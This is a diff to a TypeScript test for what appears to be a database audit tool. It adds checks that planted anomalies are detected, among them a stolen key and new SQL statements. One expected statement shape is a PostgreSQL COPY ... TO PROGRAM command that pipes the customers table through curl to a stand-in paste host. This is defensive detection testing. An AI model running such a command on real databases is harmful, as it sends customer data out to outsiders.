@@ -53,8 +53,16 @@ describe.each(HELD_OUT)('held-out scenario: %s', (_name, options) => {
       const key = (f: Pick<PlantedFinding, 'kind' | 'type' | 'target' | 'source' | 'credential'>) => [f.kind, f.type, f.target, f.source, f.credential].join(' | ');
       expect(findings.map(key).sort()).toEqual(planted.map(key).sort());
       expect(summary.bad + summary.unknown).toBe(0);
+      // The fast path and the full parser agree on the whole scenario (statements and key ids included).
+      const full = await runMain(['audit', '--quiet', '--format', 'json', '--full-parse', '--baselines', join(dir, 'baselines'), join(dir, 'today')]);
+      expect(JSON.parse(full.stdout).findings).toEqual(findings);
+      // A stolen key is named, and the statement a known user never ran is shown by its shape.
+      const stolen = findings.find((f: { source: string }) => f.source === 'ip:203.0.113.201');
+      expect(stolen.unknownKeys).toHaveLength(1);
+      const statements = findings.filter((f: { type: string }) => f.type === 'new-statement');
+      expect(statements.map((f: { statement: { shape: string } }) => f.statement.shape).sort()).toEqual(["COPY customers TO PROGRAM 'curl -sT - https://paste.example/u'", 'SELECT * FROM `invoices` INTO OUTFILE ?']);
       // Every type the issue asks for is among them.
-      expect(new Set(planted.map((p) => p.type))).toEqual(new Set(['new-source', 'new-credential', 'credential-from-new-source', 'failed-auth-burst', 'not-baselined']));
+      expect(new Set(planted.map((p) => p.type))).toEqual(new Set(['new-source', 'new-credential', 'credential-from-new-source', 'failed-auth-burst', 'new-statement', 'not-baselined']));
     });
   });
 });
